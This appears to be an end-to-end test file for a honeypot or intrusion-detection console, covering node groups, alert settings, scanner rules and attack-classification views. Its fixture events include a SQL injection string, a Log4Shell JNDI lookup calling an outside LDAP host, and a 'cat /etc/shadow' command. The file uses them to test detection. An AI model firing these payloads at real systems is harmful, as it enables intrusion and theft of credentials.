import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type ConsoleLab, openConsole, until } from '../support/console/open.ts';

const read = async <T>({ server, user }: ConsoleLab, path: string): Promise<T> =>
  (await server.call('GET', path, { headers: user.headers })).body as T;

describe('what is set for nodes', () => {
  it('is a group with its own threshold, which a node joins and whose members are listed', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/groups');
    await page.getByRole('button', { name: 'Add a group' }).click();
    const form = page.getByRole('dialog', { name: 'Add a group' });
    await form.getByLabel('Name').fill('Lyon');
    await form.getByRole('button', { name: /^As in the alert settings Exposure/ }).click();
    await page.getByRole('option', { name: /^Inside your network/ }).click();
    await form.getByLabel('Silent after (minutes)').fill('soon');
    await form.getByText('Enter a whole number of minutes.').waitFor();
    assert.equal(await form.getByRole('button', { name: 'Add group' }).isDisabled(), true);
    await form.getByLabel('Silent after (minutes)').fill('45');
    await form.getByRole('checkbox', { name: 'ssh-dmz-1' }).click({ force: true });
    await form.getByRole('button', { name: 'Plan a silence' }).click();
    await form.getByLabel('From').fill('2030-01-02T10:00');
    await form.getByLabel('To', { exact: true }).fill('2030-01-02T12:00');
    await form.getByLabel('Why').fill('new switch');
    await form.getByRole('button', { name: 'Add group' }).click();
    await page.getByText('The group “Lyon” was added').waitFor();
    const pane = page.getByRole('region', { name: 'Group', exact: true });
    await pane.getByRole('link', { name: /ssh-dmz-1/ }).waitFor();
    await pane.getByText('new switch').waitFor();
    await lab.check(page);
    const [group] = await read<
      { id: string; silence_minutes: number; exposure: string; node_count: number }[]
    >(lab, '/api/groups');
    assert.deepEqual([group?.silence_minutes, group?.exposure, group?.node_count], [45, 'internal', 1]);

    await pane.getByRole('link', { name: /ssh-dmz-1/ }).click();
    const node = page.getByRole('region', { name: 'Node', exact: true });
    await node.getByRole('link', { name: 'Lyon' }).waitFor();
    await node.getByRole('button', { name: 'Change' }).click();
    const policy = page.getByRole('dialog', { name: 'Change' });
    await policy.getByLabel('Labels').fill('dmz\nsite: Lyon');
    await policy.getByRole('button', { name: 'Save' }).click();
    await node.getByRole('link', { name: 'site: Lyon' }).click();
    await page.waitForURL(/\/nodes\?label=/);
    await page.getByRole('grid').getByText('ssh-dmz-1').waitFor();

    await page.goto(`${lab.server.address}/console/groups/${group?.id}`);
    await pane.getByRole('button', { name: 'Delete' }).click();
    await page.getByText('1 node follows the alert settings from then on.').waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await page.getByText('There are no groups yet').waitFor();
    assert.equal((await read<unknown[]>(lab, '/api/groups')).length, 0);
  });

  it('includes the networks of one’s own and the exposure of everything else', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/settings');
    await page.getByLabel('Networks of your own').fill('198.51.100.0/24\nnonsense');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page
      .getByText(/must be/)
      .first()
      .waitFor();
    await page.getByLabel('Networks of your own').fill('198.51.100.0/24');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Saved', { exact: true }).waitFor();
    const { networks } = await read<{ networks: string[] }>(lab, '/api/alert-settings');
    assert.deepEqual(networks, ['198.51.100.0/24']);
    await lab.check(page, { expected: /422/ });
  });
});

describe('many nodes at once', () => {
  it('get a label and a group, and it is undone', async (t) => {
    const lab = await openConsole(t);
    await lab.server.createNode(lab.user, 'edge-2');
    await lab.server.call('POST', '/api/groups', { headers: lab.user.headers, body: { name: 'Lyon' } });
    const page = await lab.open('/nodes');
    const nodes = () => read<{ labels: string[]; group_id: string | null }[]>(lab, '/nodes');
    await page.keyboard.press('j');
    await page.keyboard.press('x');
    await page.keyboard.press('j');
    await page.keyboard.press('x');
    await page.getByText('2 rows selected').waitFor();
    await lab.check(page);
    await page.getByRole('button', { name: 'Add labels' }).click();
    await page.getByRole('dialog').getByLabel('Labels').fill('dmz');
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
    await page.getByText('2 nodes changed.').waitFor();
    assert.deepEqual(
      (await nodes()).map(({ labels }) => labels),
      [['dmz'], ['dmz']],
    );
    await page.getByRole('button', { name: 'Undo' }).click();
    await until(async () => (await nodes()).every(({ labels }) => labels.length === 0));
    await page.getByRole('button', { name: 'Group', exact: true }).click();
    await page
      .getByRole('dialog')
      .getByRole('button', { name: /^No group/ })
      .click();
    await page.getByRole('option', { name: 'Lyon' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
    await until(async () => (await nodes()).every(({ group_id }) => group_id !== null));
  });
});

describe('a value', () => {
  it('shows what is known of it, is excluded from the list, and new events keep to the query', async (t) => {
    const lab = await openConsole(t, { events: [] });
    const touch = (n: number, source_ip: string) => ({
      event_id: `value-${n}`,
      timestamp: new Date().toISOString(),
      service: 'ssh',
      source_ip,
      activity: 'login failed',
      payload: `root:${n}`,
    });
    await lab.send([touch(1, '203.0.113.7'), touch(2, '203.0.113.8'), touch(3, '203.0.113.8')]);
    const page = await lab.open('/events');
    await page.locator('[data-live=true]').waitFor();
    await page.getByRole('grid').getByRole('button', { name: '203.0.113.8' }).first().click();
    await page.getByText('Open incidents').waitFor();
    await lab.check(page);
    await page.getByRole('menuitem', { name: 'Exclude this' }).click();
    await page.waitForURL(/q=-source%3A203\.0\.113\.8/);
    await until(async () => (await page.getByRole('grid').getByText('203.0.113.8').count()) === 0);
    await page.getByRole('grid').getByText('203.0.113.7').waitFor();
    await lab.send([touch(4, '203.0.113.8'), touch(5, '203.0.113.9')]);
    await page.getByRole('status').filter({ hasText: '1 new row' }).waitFor();
  });
});

describe('known scanners', () => {
  it('are offered by the verdict “expected”, and by the menu of an incident', async (t) => {
    const at = Date.now();
    const lab = await openConsole(t, {
      events: Array.from({ length: 4 }, (_, n) => ({
        timestamp: new Date(at - n * 1000).toISOString(),
        service: 'http',
        source_ip: '10.0.0.9',
        activity: 'http request',
        payload: "GET /p?id=1' UNION SELECT password FROM users-- HTTP/1.1",
      })),
    });
    const page = await lab.open('/incidents');
    await page.keyboard.press('j');
    await page.keyboard.press('v');
    await page.getByRole('radio', { name: /^Expected/ }).click({ force: true });
    await page.getByRole('button', { name: 'Save verdict' }).click();
    const form = page.getByRole('dialog', { name: 'Make this a known scanner' });
    assert.equal(await form.getByLabel('Addresses or networks').inputValue(), '10.0.0.9');
    await lab.check(page);
    await form.getByLabel('Name').fill('Nessus, Lyon');
    await form.getByRole('button', { name: 'Add known scanner' }).click();
    await page.getByText('“Nessus, Lyon” is a known scanner').waitFor();
    type Scanner = { id: string; name: string; hits: number; enabled: boolean };
    const scanners = () => read<Scanner[]>(lab, '/api/known-scanners');
    assert.deepEqual(
      (await scanners()).map(({ name }) => name),
      ['Nessus, Lyon'],
    );
    await page.keyboard.press('u');
    await until(async () => (await scanners()).length === 0);

    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'More actions' }).click();
    await page.getByRole('menuitem', { name: 'Known scanner…' }).click();
    assert.equal(await form.getByLabel('Services').inputValue(), 'http');
    await form.getByLabel('Name').fill('Inventory');
    await form.getByRole('checkbox', { name: /^Send the attacks/ }).click({ force: true });
    await form.getByRole('checkbox', { name: 'Only at certain hours' }).click({ force: true });
    await form.getByLabel('From').fill('0:00');
    await form.getByRole('button', { name: 'Add known scanner' }).click();
    await form.getByText('must be a time like 22:00').waitFor();
    await form.getByLabel('From').fill('00:00');
    await form.getByLabel('To', { exact: true }).fill('24:00');
    await form.getByLabel('Time zone').fill('UTC');
    await form.getByRole('button', { name: 'Add known scanner' }).click();
    await page.getByText('“Inventory” is a known scanner').waitFor();
    await lab.send([
      {
        event_id: 'quiet-1',
        timestamp: new Date().toISOString(),
        service: 'http',
        source_ip: '10.0.0.9',
        activity: 'http request',
        payload: "GET /q?id=1' UNION SELECT password FROM users-- HTTP/1.1",
      },
    ]);
    await until(async () => (await scanners())[0]?.hits === 1);
    const [scanner] = await scanners();
    await page.goto(`${lab.server.address}/console/known-scanners/${scanner?.id}`);
    await page.getByText('00:00 to 24:00 (UTC)').waitFor();
    await page.getByRole('link', { name: 'Show these events' }).click();
    await page.getByRole('grid', { name: 'Events' }).getByText('/q?id=1').waitFor();
    await page.goBack();
    await page.getByRole('button', { name: 'Switch off' }).click();
    await until(async () => (await scanners())[0]?.enabled === false);
  });
});

describe('what is known of attacks', () => {
  it('has numbers that lead to their events: techniques, vulnerabilities, countries', async (t) => {
    const at = Date.now();
    const lab = await openConsole(t, {
      events: [
        {
          timestamp: new Date(at).toISOString(),
          service: 'http',
          source_ip: '9.9.9.9',
          activity: 'http request',
          payload: 'GET /?x=$' + '{jndi:ldap://198.51.100.7/a} HTTP/1.1',
        },
        {
          timestamp: new Date(at).toISOString(),
          service: 'ssh',
          source_ip: '9.9.9.9',
          activity: 'command',
          payload: 'cat /etc/shadow',
        },
      ],
    });
    const page = await lab.open('/vulnerabilities');
    await page.getByRole('grid').getByText('CVE-2021-44228').click();
    await page.getByRole('link', { name: 'Show its events' }).click();
    await page.getByRole('grid', { name: 'Events' }).getByText('jndi').waitFor();
    assert.equal(await page.getByRole('grid').getByRole('row').count(), 2);

    await page.goto(`${lab.server.address}/console/techniques`);
    const cell = page.getByRole('link', { name: /^T1190 / });
    await cell.getByText('1 event').waitFor();
    await cell.click();
    await page.getByRole('grid', { name: 'Events' }).getByText('jndi').waitFor();

    await page.goto(`${lab.server.address}/console/places`);
    await page.getByRole('list', { name: 'Sources' }).getByText('9.9.9.9').waitFor();
    await page.getByRole('list', { name: 'Countries' }).getByRole('link').first().click();
    await page.waitForURL(/events\?.*q=country/);
    await page.getByRole('grid', { name: 'Events' }).getByText('jndi').waitFor();
    await lab.check(page);
  });
});
